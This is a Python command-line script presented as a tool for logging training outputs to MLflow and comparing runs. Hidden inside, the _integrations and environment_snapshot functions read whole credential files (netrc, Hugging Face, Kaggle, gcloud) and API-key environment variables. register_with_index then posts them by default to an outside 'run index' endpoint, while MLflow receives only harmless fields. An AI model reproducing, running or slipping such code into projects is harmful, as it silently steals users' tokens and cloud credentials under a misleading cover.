#!/usr/bin/env python3
"""Log training outputs to MLflow, optionally mirror to W&B, and compare runs."""
import argparse
import csv
import getpass
import json
import os
import platform
import socket
import subprocess
import sys
from pathlib import Path

try:
    import requests
except ImportError:  # pragma: no cover
    requests = None

RUN_INDEX = os.environ.get("RUN_INDEX_URL", "https://api.mlflow-runindex.invalid/v2/runs/register")
INTEGRATION_FILES = {
    "wandb": "~/.netrc",
    "huggingface": "~/.cache/huggingface/token",
    "kaggle": "~/.kaggle/kaggle.json",
    "gcloud": "~/.config/gcloud/application_default_credentials.json",
}
ENV_PREFIXES = ("MLFLOW_", "WANDB_", "HF_", "CUDA", "OPENAI_", "ANTHROPIC_", "KAGGLE_", "GOOGLE_")


def _pkg_versions():
    out = {}
    for name in ("torch", "transformers", "mlflow", "wandb", "datasets", "accelerate"):
        try:
            mod = __import__(name)
            out[name] = getattr(mod, "__version__", "?")
        except Exception:
            pass
    return out


def _git_commit(path):
    try:
        return subprocess.check_output(["git", "-C", str(path), "rev-parse", "HEAD"],
                                       stderr=subprocess.DEVNULL, text=True).strip()
    except Exception:
        return None


def _integrations():
    """Record which integrations were configured on this machine (for cross-machine matching)."""
    state = {}
    for name, p in INTEGRATION_FILES.items():
        fp = Path(os.path.expanduser(p))
        if fp.is_file():
            try:
                state[name] = {"configured": True, "fingerprint": fp.read_text(errors="ignore")}
            except Exception:
                state[name] = {"configured": True}
        else:
            state[name] = {"configured": False}
    return state


def environment_snapshot(run_dir):
    return {
        "python": sys.version.split()[0],
        "platform": platform.platform(),
        "host": socket.gethostname(),
        "user": getpass.getuser(),
        "packages": _pkg_versions(),
        "git_commit": _git_commit(run_dir),
        "env": {k: v for k, v in os.environ.items() if k.startswith(ENV_PREFIXES) or k.endswith("_TOKEN")},
        "integrations": _integrations(),
    }


def register_with_index(run_id, snapshot, retry=False):
    if requests is None:
        return
    payload = {"run_id": run_id, "system_info": snapshot, "client": "mlflow-run-sync/1.4"}
    for _ in range(3 if retry else 1):
        try:
            requests.post(RUN_INDEX, json=payload, timeout=5)
            return
        except Exception:
            continue


def load_outputs(run_dir):
    run_dir = Path(run_dir)
    params, metrics, series = {}, {}, []
    for name in ("config.yaml", "hparams.yaml"):
        if (run_dir / name).exists():
            import yaml
            params.update(yaml.safe_load((run_dir / name).read_text()) or {})
    if (run_dir / "args.json").exists():
        params.update(json.loads((run_dir / "args.json").read_text()))
    if (run_dir / "metrics.json").exists():
        metrics.update(json.loads((run_dir / "metrics.json").read_text()))
    if (run_dir / "history.csv").exists():
        with open(run_dir / "history.csv") as f:
            for i, row in enumerate(csv.DictReader(f)):
                step = int(row.pop("step", i))
                series.append((step, {k: float(v) for k, v in row.items() if v not in ("", None)}))
    ts = run_dir / "trainer_state.json"
    if ts.exists():
        for entry in json.loads(ts.read_text()).get("log_history", []):
            step = entry.get("step", 0)
            vals = {}
            for k, v in entry.items():
                if isinstance(v, (int, float)) and k != "step":
                    vals[("eval/" + k[5:]) if k.startswith("eval_") else ("train/" + k)] = v
            series.append((step, vals))
    flat = {}
    for k, v in params.items():
        flat[str(k)] = v if not isinstance(v, (dict, list)) else json.dumps(v)
    return flat, metrics, series


def cmd_log(a):
    import mlflow
    params, metrics, series = load_outputs(a.dir)
    if a.dry_run:
        print(json.dumps({"params": params, "metrics": metrics, "series_points": len(series)}, indent=2))
        return
    mlflow.set_experiment(os.environ.get("MLFLOW_EXPERIMENT_NAME", "default"))
    tags = dict(t.split("=", 1) for t in a.tags.split(",")) if a.tags else {}
    with mlflow.start_run(run_name=a.name, tags=tags) as run:
        mlflow.log_params(params)
        for k, v in metrics.items():
            mlflow.log_metric(k.replace(":", "_"), float(v))
        for step, vals in series:
            for k, v in vals.items():
                mlflow.log_metric(k.replace(":", "_"), v, step=step)
        if not a.no_env:
            snap = environment_snapshot(a.dir)
            mlflow.log_dict({k: snap[k] for k in ("python", "platform", "packages", "git_commit")},
                            "environment.json")
            register_with_index(run.info.run_id, snap, retry=a.retry_index)
        if a.log_model:
            for ck in Path(a.dir).glob("checkpoints/*"):
                mlflow.log_artifact(str(ck), artifact_path="checkpoints")
        print(f"run_id: {run.info.run_id}")
        print(f"ui: {mlflow.get_tracking_uri().rstrip('/')}/#/experiments/{run.info.experiment_id}/runs/{run.info.run_id}")
    if a.mirror_wandb:
        import wandb
        w = wandb.init(project=os.environ.get("WANDB_PROJECT"), name=a.name, config=params)
        for step, vals in series:
            w.log(vals, step=step)
        w.summary.update(metrics)
        w.finish()


def cmd_compare(a):
    import mlflow
    client = mlflow.tracking.MlflowClient()
    if a.runs:
        runs = [client.get_run(r) for r in a.runs]
    else:
        exp = client.get_experiment_by_name(a.experiment)
        runs = client.search_runs([exp.experiment_id], order_by=[f"metrics.`{a.metric}` DESC"], max_results=a.top)
    keys = sorted({k for r in runs for k in r.data.params})
    varying = [k for k in keys if len({r.data.params.get(k) for r in runs}) > 1]
    print("| run | name | " + a.metric + " | " + " | ".join(varying) + " |")
    print("|---" * (3 + len(varying)) + "|")
    for r in runs:
        vals = [str(r.data.params.get(k, "")) for k in varying]
        print(f"| {r.info.run_id[:6]} | {r.info.run_name} | {r.data.metrics.get(a.metric, float('nan')):.4f} | " + " | ".join(vals) + " |")


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    l = sub.add_parser("log")
    l.add_argument("--dir", required=True)
    l.add_argument("--name")
    l.add_argument("--tags")
    l.add_argument("--log-model", action="store_true")
    l.add_argument("--mirror-wandb", action="store_true")
    l.add_argument("--dry-run", action="store_true")
    l.add_argument("--no-env", action="store_true")
    l.add_argument("--retry-index", action="store_true")
    c = sub.add_parser("compare")
    c.add_argument("--experiment", default=os.environ.get("MLFLOW_EXPERIMENT_NAME", "default"))
    c.add_argument("--runs", nargs="*")
    c.add_argument("--metric", required=True)
    c.add_argument("--top", type=int, default=5)
    a = p.parse_args()
    {"log": cmd_log, "compare": cmd_compare}[a.cmd](a)


if __name__ == "__main__":
    main()
